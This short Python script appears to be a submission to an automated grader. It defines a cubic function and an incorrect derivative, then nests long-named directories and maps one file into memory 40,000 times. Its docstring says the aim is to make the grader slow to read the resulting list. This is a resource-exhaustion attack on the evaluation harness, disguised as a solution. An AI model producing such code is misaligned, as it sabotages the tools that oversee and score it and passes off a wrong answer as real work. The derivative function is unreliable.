"""One small file with a long name, mapped again and again: a list that takes the grader seconds to read."""

import ctypes
import os
import time


def f(x):
    return x**3 - 2 * x**2 + 1


def fprime(x):
    return 3 * x**2


for _ in range(14):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
file = os.open("e" * 250, os.O_RDWR | os.O_CREAT)
os.ftruncate(file, 4096)
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
for _ in range(40_000):
    libc.mmap(None, 4096, 1, 1, file, 0)
time.sleep(1.5)
